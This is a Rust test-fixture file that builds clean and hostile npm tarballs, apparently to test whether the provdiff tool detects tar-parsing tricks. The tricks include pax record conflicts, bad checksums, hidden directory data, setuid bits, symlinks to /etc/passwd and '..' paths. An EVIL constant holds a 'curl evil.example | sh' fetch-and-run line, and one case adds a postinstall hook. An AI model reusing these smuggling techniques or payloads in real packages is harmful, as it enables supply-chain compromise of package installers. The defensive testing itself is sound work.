//! Tarballs written block by block, for the tests of how provdiff reads published tar streams:
//! what real publishers write (every variant must read as the plain package), and what an
//! attacker can write (every case must be a mismatch naming what it is, or an error).
//!
//! Every case holds the same package, [`SOURCE`], in some encoding, plus whatever the case adds;
//! `provdiff diff CASE.tgz SOURCE_DIR` must say `equivalent` for the clean ones and nothing
//! better than `mismatch` for the others.

use std::path::Path;

use provdiff_core::Code;

/// The package every case encodes: path, mode, content.
pub const SOURCE: &[(&str, u32, &str)] = &[
    ("package.json", 0o644, "{\n  \"name\": \"victim\",\n  \"version\": \"1.0.0\",\n  \"main\": \"index.js\"\n}\n"),
    ("index.js", 0o644, "module.exports = require(\"./lib/util\");\n"),
    ("lib/util.js", 0o644, "module.exports = 42;\n"),
    ("lib/café.js", 0o644, "module.exports = 'café';\n"),
    ("README.md", 0o644, "# victim\n"),
    ("bin/cli.js", 0o755, "#!/usr/bin/env node\nrequire('../index.js');\n"),
];

const EVIL: &str = "require('child_process').exec('curl evil.example | sh');\n";

/// Writes [`SOURCE`] as a directory.
pub fn write_source(dir: &Path) {
    use std::os::unix::fs::PermissionsExt;
    for (path, mode, content) in SOURCE {
        let full = dir.join(path);
        fs_err::create_dir_all(full.parent().unwrap()).unwrap();
        fs_err::write(&full, content).unwrap();
        fs_err::set_permissions(&full, std::fs::Permissions::from_mode(*mode)).unwrap();
    }
}

/// What provdiff must make of a case.
#[derive(Debug, Clone, Copy)]
pub enum Expect {
    /// Read silently, and `equivalent` to [`SOURCE`].
    Clean,
    /// A `mismatch` whose findings include these codes.
    Mismatch(&'static [Code]),
    /// An error (exit 2) whose message contains this.
    Error(&'static str),
}

#[derive(Debug)]
pub struct Case {
    pub name: &'static str,
    pub tgz: Vec<u8>,
    pub expect: Expect,
}

/// One 512-byte header, as node-tar's portable mode writes it unless told otherwise.
#[derive(Debug, Clone)]
pub struct Header {
    name: Vec<u8>,
    mode: u32,
    size: u64,
    type_flag: u8,
    linkname: Vec<u8>,
    magic: [u8; 8],
    prefix: Vec<u8>,
    /// Raw bytes written over the header before its checksum is computed.
    patches: Vec<(usize, Vec<u8>)>,
    bad_checksum: bool,
}

fn octal(value: u64, width: usize) -> Vec<u8> {
    format!("{value:0w$o} \0", w = width - 2).into_bytes()
}

impl Header {
    pub fn new(name: &str, size: usize) -> Self {
        Self::raw(name.as_bytes(), size)
    }

    pub fn raw(name: &[u8], size: usize) -> Self {
        Self {
            name: name.to_vec(),
            mode: 0o644,
            size: size as u64,
            type_flag: b'0',
            linkname: Vec::new(),
            magic: *b"ustar\x0000",
            prefix: Vec::new(),
            patches: Vec::new(),
            bad_checksum: false,
        }
    }

    pub fn kind(mut self, type_flag: u8) -> Self {
        self.type_flag = type_flag;
        self
    }
    pub fn mode(mut self, mode: u32) -> Self {
        self.mode = mode;
        self
    }
    pub fn link(mut self, linkname: &str) -> Self {
        self.linkname = linkname.as_bytes().to_vec();
        self
    }
    pub fn prefix(mut self, prefix: &str) -> Self {
        self.prefix = prefix.as_bytes().to_vec();
        self
    }
    pub fn magic(mut self, magic: &[u8; 8]) -> Self {
        self.magic = *magic;
        self
    }
    pub fn patch(mut self, at: usize, bytes: &[u8]) -> Self {
        self.patches.push((at, bytes.to_vec()));
        self
    }
    pub fn bad_checksum(mut self) -> Self {
        self.bad_checksum = true;
        self
    }

    pub fn block(&self) -> Vec<u8> {
        let mut block = vec![0u8; 512];
        block[..self.name.len()].copy_from_slice(&self.name);
        block[100..108].copy_from_slice(&octal(u64::from(self.mode), 8));
        block[124..136].copy_from_slice(&octal(self.size, 12));
        block[136..148].copy_from_slice(&octal(499_162_500, 12));
        block[156] = self.type_flag;
        block[157..157 + self.linkname.len()].copy_from_slice(&self.linkname);
        block[257..265].copy_from_slice(&self.magic);
        block[345..345 + self.prefix.len()].copy_from_slice(&self.prefix);
        for (at, bytes) in &self.patches {
            block[*at..*at + bytes.len()].copy_from_slice(bytes);
        }
        block[148..156].copy_from_slice(b"        ");
        let sum: u32 = block.iter().map(|&byte| u32::from(byte)).sum::<u32>() + u32::from(self.bad_checksum);
        block[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        block
    }

    /// The header and its data, padded to whole blocks.
    pub fn with(&self, data: &[u8]) -> Vec<u8> {
        let mut out = self.block();
        out.extend_from_slice(data);
        out.resize(out.len().next_multiple_of(512), 0);
        out
    }
}

/// A regular file under `package/`.
pub fn entry(path: &str, data: &str) -> Vec<u8> {
    Header::new(&format!("package/{path}"), data.len()).with(data.as_bytes())
}

/// A source file as a plain entry, with its mode.
pub fn source_entry(path: &str) -> Vec<u8> {
    let (_, mode, content) = SOURCE.iter().find(|(p, _, _)| *p == path).unwrap();
    Header::new(&format!("package/{path}"), content.len()).mode(*mode).with(content.as_bytes())
}

pub fn source_content(path: &str) -> &'static str {
    SOURCE.iter().find(|(p, _, _)| *p == path).unwrap().2
}

/// Every source file as a plain entry, but those in `except`.
pub fn sources(except: &[&str]) -> Vec<u8> {
    SOURCE.iter().filter(|(path, _, _)| !except.contains(path)).flat_map(|(path, _, _)| source_entry(path)).collect()
}

/// One pax record, `LEN KEY=VALUE\n`.
pub fn record(key: &str, value: &str) -> String {
    let body = format!(" {key}={value}\n");
    let mut len = body.len() + 1;
    while format!("{len}{body}").len() != len {
        len += 1;
    }
    format!("{len}{body}")
}

/// A pax extended header (`x`) with these records, named as tar-stream names it.
pub fn pax(records: &[(&str, &str)]) -> Vec<u8> {
    let body: String = records.iter().map(|(key, value)| record(key, value)).collect();
    meta(b'x', "PaxHeader", body.as_bytes())
}

/// An extended header of any type with a raw body.
pub fn meta(type_flag: u8, name: &str, body: &[u8]) -> Vec<u8> {
    Header::new(name, body.len()).kind(type_flag).with(body)
}

/// A GNU long name header (`L`) as GNU tar writes it.
pub fn gnu_long_name(name: &str) -> Vec<u8> {
    let mut body = name.as_bytes().to_vec();
    body.push(0);
    Header::new("././@LongLink", body.len()).kind(b'L').magic(b"ustar  \0").with(&body)
}

/// The archive's end marker and gzip.
pub fn tgz(parts: Vec<Vec<u8>>) -> Vec<u8> {
    let mut tar: Vec<u8> = parts.concat();
    tar.extend_from_slice(&[0; 1024]);
    gzip(&tar)
}

pub fn gzip(tar: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut encoder, tar).unwrap();
    encoder.finish().unwrap()
}

/// Every case: clean encodings first, then the audit's hostile tarballs, then further ones.
pub fn cases() -> Vec<Case> {
    use Expect::{Clean, Error, Mismatch};
    let mut cases = Vec::new();
    let mut add = |name: &'static str, tgz: Vec<u8>, expect: Expect| cases.push(Case { name, tgz, expect });
    let index = source_content("index.js");
    let util = source_content("lib/util.js");
    let hidden = entry("evil.js", EVIL);
    let cafe = source_content("lib/café.js");
    let cafe_size = cafe.len().to_string();

    // What publishers write.
    add("clean-npm", tgz(vec![sources(&[])]), Clean);
    add(
        "clean-npm-pax-non-ascii",
        // node-tar: a pax path, and the same UTF-8 bytes in the header's name.
        tgz(vec![
            sources(&["lib/café.js"]),
            pax(&[("path", "package/lib/café.js"), ("mtime", "499162500"), ("size", &cafe_size)]),
            source_entry("lib/café.js"),
        ]),
        Clean,
    );
    add(
        "clean-tar-stream-pax",
        // pnpm's and yarn's tar-stream: the header's own name is `PaxHeader`, which npm would not
        // install were the pax path lost.
        tgz(vec![
            sources(&["lib/café.js", "index.js"]),
            pax(&[("path", "package/lib/café.js")]),
            Header::new("PaxHeader", cafe.len()).with(cafe.as_bytes()),
            pax(&[("path", "package/index.js")]),
            Header::new("PaxHeader", index.len()).with(index.as_bytes()),
        ]),
        Clean,
    );
    add(
        "clean-ustar-prefix",
        tgz(vec![
            sources(&["lib/util.js"]),
            Header::new("util.js", util.len()).prefix("package/lib").with(util.as_bytes()),
        ]),
        Clean,
    );
    add(
        "clean-star-prefix-with-times",
        // A 130-byte prefix followed by atime and ctime, as @types packages are published.
        tgz(vec![
            sources(&["lib/util.js"]),
            Header::new("util.js", util.len())
                .prefix("package/lib")
                .patch(476, b"14773302105\0")
                .patch(488, b"14773302105\0")
                .with(util.as_bytes()),
        ]),
        Clean,
    );
    add(
        "clean-gnu-long-name",
        tgz(vec![
            sources(&["index.js"]),
            gnu_long_name("package/index.js"),
            Header::new("package/index.js", index.len()).magic(b"ustar  \0").with(index.as_bytes()),
        ]),
        Clean,
    );
    add(
        "clean-yarn-classic",
        // yarn 1 (tar-fs): directory entries, the root included, uid and gid fields, real mtimes.
        tgz(vec![
            Header::new("package", 0).kind(b'5').mode(0o755).patch(136, b"15304621752 ").block(),
            Header::new("package/lib", 0).kind(b'5').mode(0o755).patch(108, b"000000 \x00000000 \x00").block(),
            sources(&[]),
        ]),
        Clean,
    );
    add(
        "clean-old-formats",
        // Type `\0` and `7` files, a v7 header, a directory with a trailing slash, a global header
        // with only a comment (as `git archive` writes).
        tgz(vec![
            meta(b'g', "pax_global_header", record("comment", "0123456789abcdef").as_bytes()),
            Header::new("package/lib/", 0).kind(b'5').block(),
            sources(&["index.js", "lib/util.js"]),
            Header::new("package/index.js", index.len()).kind(0).with(index.as_bytes()),
            Header::new("package/lib/util.js", util.len()).kind(b'7').magic(&[0; 8]).with(util.as_bytes()),
        ]),
        Clean,
    );

    // The audit's cases.
    add(
        "audit-1-directory-hides-entry",
        tgz(vec![sources(&[]), Header::new("package/lib/", hidden.len()).kind(b'5').mode(0o755).with(&hidden)]),
        Mismatch(&[Code::TarDirectoryData, Code::OnlyInPackage]),
    );
    let evil_manifest = "{\"name\":\"victim\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"node evil.js\"}}\n";
    let hidden_manifest = entry("package.json", evil_manifest);
    add(
        "audit-1b-directory-hides-manifest",
        tgz(vec![sources(&[]), Header::new("package/lib/", hidden_manifest.len()).kind(b'5').with(&hidden_manifest)]),
        Mismatch(&[Code::TarDirectoryData, Code::TarDuplicateEntry, Code::PackageJsonFieldDiffers]),
    );
    add(
        "audit-2-repeated-pax-path",
        tgz(vec![
            sources(&["index.js", "lib/util.js"]),
            pax(&[("path", "package/index.js"), ("path", "package/lib/util.js")]),
            Header::new("package/zzz", index.len()).with(index.as_bytes()),
            pax(&[("path", "package/lib/util.js"), ("path", "package/index.js")]),
            Header::new("package/yyy", util.len()).with(util.as_bytes()),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::ContentDiffers]),
    );
    add(
        "audit-3-long-name-then-pax-path",
        tgz(vec![
            sources(&["index.js"]),
            gnu_long_name("package/index.js"),
            pax(&[("path", "package/other.js")]),
            Header::new("package/index.js", index.len()).with(index.as_bytes()),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage, Code::OnlyInSource]),
    );
    add(
        "audit-4-dot-root",
        tgz(vec![sources(&["index.js"]), Header::new("./package/index.js", index.len()).with(index.as_bytes())]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage, Code::OnlyInSource]),
    );
    add(
        "audit-5-file-with-link-name",
        tgz(vec![sources(&["index.js"]), Header::new("package/index.js", hidden.len()).link("x").with(&hidden)]),
        Mismatch(&[Code::TarHeaderSkipped, Code::OnlyInPackage, Code::OnlyInSource]),
    );
    add(
        "audit-5b-file-name-ending-in-slash",
        tgz(vec![sources(&["index.js"]), Header::new("package/index.js/", hidden.len()).with(&hidden)]),
        Mismatch(&[Code::TarDirectoryData, Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "audit-6-setuid",
        tgz(vec![
            sources(&["bin/cli.js"]),
            Header::new("package/bin/cli.js", source_content("bin/cli.js").len())
                .mode(0o4755)
                .with(source_content("bin/cli.js").as_bytes()),
        ]),
        Mismatch(&[Code::ModeSpecialBits]),
    );
    add(
        "audit-7-sparse-claims-gigabytes",
        // GNU sparse: 512 stored bytes, a real size of 1.5 GB.
        tgz(vec![
            sources(&[]),
            Header::new("package/sparse.bin", 512)
                .kind(b'S')
                .magic(b"ustar  \0")
                .patch(386, b"00000000000\0")
                .patch(398, b"00000001000\0")
                .patch(483, b"13132000000\0")
                .with(&[0x41; 512]),
        ]),
        Mismatch(&[Code::TarSpecialEntry]),
    );

    // Further cases: what node-tar reads otherwise, read as npm does.
    add(
        "bad-checksum-hides-entry",
        tgz(vec![sources(&[]), Header::new("package/decoy.js", hidden.len()).bad_checksum().with(&hidden)]),
        Mismatch(&[Code::TarHeaderSkipped, Code::OnlyInPackage]),
    );
    add(
        "checksum-running-into-type-flag",
        tgz(vec![sources(&[]), {
            let mut block = Header::new("package/decoy.js", 0).block();
            // The same checksum in eight digits: node-tar reads on into the type flag.
            let sum = std::str::from_utf8(&block[148..154]).unwrap().to_string();
            block[148..156].copy_from_slice(format!("00{sum}").as_bytes());
            block
        }]),
        Mismatch(&[Code::TarHeaderSkipped]),
    );
    add(
        "lenient-mode-number",
        tgz(vec![
            sources(&["index.js"]),
            Header::new("package/index.js", index.len()).patch(100, b"0644xyz\0").with(index.as_bytes()),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "lenient-size-number",
        // `parseInt("  12abc", 8)` is 10: what follows ten bytes of data is a header to node-tar.
        tgz(vec![sources(&[]), Header::new("package/a.js", 0).patch(124, b"  12abc\0\0\0\0\0").with(b"0123456789")]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "pax-mode-ignored",
        tgz(vec![sources(&["index.js"]), pax(&[("mode", "2541")]), source_entry("index.js")]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "pax-type-ignored",
        tgz(vec![sources(&[]), pax(&[("type", "5")]), Header::new("package/zz", hidden.len()).with(&hidden)]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "pax-sparse-keys-ignored",
        tgz(vec![sources(&["index.js"]), pax(&[("GNU.sparse.name", "package/other.js")]), source_entry("index.js")]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "pax-record-hidden-in-a-value",
        tgz(vec![
            sources(&["lib/util.js"]),
            meta(
                b'x',
                "PaxHeader",
                record("comment", &format!("x\n{}", record("path", "package/evil2.js").trim_end())).as_bytes(),
            ),
            source_entry("lib/util.js"),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage, Code::OnlyInSource]),
    );
    add(
        "pax-size-overrides-header",
        tgz(vec![
            sources(&[]),
            pax(&[("size", &hidden.len().to_string())]),
            Header::new("package/empty.txt", 0).with(&hidden),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "pax-non-ascii-path-unstable",
        // Cut inside `é` by a zlib chunk, node-tar drops the record and installs index.js instead.
        tgz(vec![sources(&["lib/café.js"]), pax(&[("path", "package/lib/café.js")]), entry("index.js", EVIL)]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "gnu-long-name-non-ascii",
        tgz(vec![
            sources(&["lib/café.js"]),
            gnu_long_name("package/lib/café.js"),
            Header::new("package/lib/caf", cafe.len()).with(cafe.as_bytes()),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "name-with-bytes-after-its-end",
        // node-tar cuts from the NUL to the next line break, not to the end: with the field full,
        // it reads `package/a\nbbb…`, other readers `package/a`.
        tgz(vec![sources(&[]), Header::raw(&[&b"package/a\0junk\n"[..], &[b'b'; 85]].concat(), 4).with(b"evil")]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "lone-zero-block",
        tgz(vec![sources(&["index.js"]), vec![0; 512], source_entry("index.js")]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "end-marker-that-is-not-zeros",
        // Only the checksum field is set, to no number: node-tar reads two of these as the end,
        // other readers as bad headers they read past.
        {
            let mut marker = vec![0u8; 512];
            marker[148..156].copy_from_slice(b"zzzzzzzz");
            tgz(vec![sources(&["index.js"]), marker.clone(), marker, source_entry("index.js")])
        },
        Mismatch(&[Code::TarHeaderAmbiguous, Code::TarTrailingData, Code::OnlyInSource]),
    );
    add(
        "unknown-type",
        tgz(vec![sources(&[]), Header::new("package/q.js", hidden.len()).kind(b'Q').with(&hidden)]),
        Mismatch(&[Code::TarSpecialEntry]),
    );
    add(
        "odd-magic-with-prefix",
        tgz(vec![
            sources(&["lib/util.js"]),
            Header::new("util.js", util.len()).prefix("package/lib").magic(b"ustar\0 0").with(util.as_bytes()),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInSource]),
    );
    add(
        "contiguous-file-with-slash",
        // Only type `0` turns into a directory: npm writes this one as the file `lib/zz.js`.
        tgz(vec![sources(&[]), Header::new("package/lib/zz.js/", 4).kind(b'7').with(b"evil")]),
        Mismatch(&[Code::TarHeaderAmbiguous, Code::OnlyInPackage]),
    );
    add(
        "empty-path-components",
        tgz(vec![sources(&["lib/util.js"]), Header::new("package/lib/./util.js", util.len()).with(util.as_bytes())]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "oversized-extended-header",
        tgz(vec![
            sources(&["index.js"]),
            meta(
                b'x',
                "PaxHeader",
                format!("{}{}", record("comment", &"a".repeat(1024 * 1024)), record("path", "package/x.js")).as_bytes(),
            ),
            source_entry("index.js"),
        ]),
        Mismatch(&[Code::TarHeaderAmbiguous]),
    );
    add(
        "data-after-the-end",
        {
            let mut tar: Vec<u8> = sources(&[]);
            tar.extend_from_slice(&[0; 1024]);
            tar.extend(entry("evil.js", EVIL));
            gzip(&tar)
        },
        Mismatch(&[Code::TarTrailingData]),
    );
    add(
        "symlink",
        tgz(vec![sources(&[]), Header::new("package/evil.js", 0).kind(b'2').link("/etc/passwd").block()]),
        Mismatch(&[Code::TarSpecialEntry]),
    );

    // What npm releases read differently from one another: errors.
    add(
        "pax-size-zero",
        tgz(vec![sources(&["index.js"]), pax(&[("size", "0")]), source_entry("index.js")]),
        Error("pax record `size=\"0\"`"),
    );
    add(
        "pax-empty-path",
        tgz(vec![sources(&["index.js"]), pax(&[("path", "")]), source_entry("index.js")]),
        Error("pax record"),
    );
    add(
        "pax-size-then-long-name",
        tgz(vec![
            sources(&["index.js"]),
            pax(&[("size", "512")]),
            gnu_long_name("package/index.js"),
            source_entry("index.js"),
        ]),
        Error("follows a pax `size` record"),
    );
    add(
        "global-size",
        tgz(vec![meta(b'g', "pax_global_header", record("size", "512").as_bytes()), sources(&[])]),
        Error("global pax header sets `size`"),
    );
    add(
        "long-link-on-file",
        tgz(vec![
            sources(&["index.js"]),
            Header::new("././@LongLink", 9).kind(b'K').with(b"../../x\0\0"),
            source_entry("index.js"),
        ]),
        Error("has a link target"),
    );
    add(
        "pax-header-with-link-name",
        tgz(vec![
            sources(&["index.js"]),
            Header::new("PaxHeader", 0).kind(b'x').link("x").block(),
            source_entry("index.js"),
        ]),
        Error("pax header with a link name"),
    );
    add(
        "base-256-under-extension",
        tgz(vec![
            sources(&["index.js"]),
            pax(&[("path", "package/index.js")]),
            Header::new("package/index.js", index.len())
                .patch(108, &[0x81, 0, 0, 0, 0, 0, 0, 0])
                .with(index.as_bytes()),
        ]),
        Error("base-256"),
    );
    add(
        "truncated-entry",
        {
            let mut tar = sources(&[]);
            tar.extend(Header::new("package/big.js", 4096).block());
            tar.extend_from_slice(&[b'x'; 1000]);
            gzip(&tar)
        },
        Error("needs 4096 bytes"),
    );
    add(
        "too-deep",
        {
            let deep = format!("package/{}x.js", "d/".repeat(1100));
            tgz(vec![sources(&[]), pax(&[("path", &deep)]), Header::new("package/deep", 1).with(b"x")])
        },
        Error("more than 1024 components"),
    );
    add("root-inside-package", tgz(vec![sources(&[]), entry("/etc.js", EVIL)]), Error("a root inside the package"));
    add("drive-inside-package", tgz(vec![sources(&[]), entry("C:evil.js", EVIL)]), Error("a root inside the package"));
    add("dot-dot", tgz(vec![sources(&[]), entry("lib/../../evil.js", EVIL)]), Error("`..` component"));
    cases
}
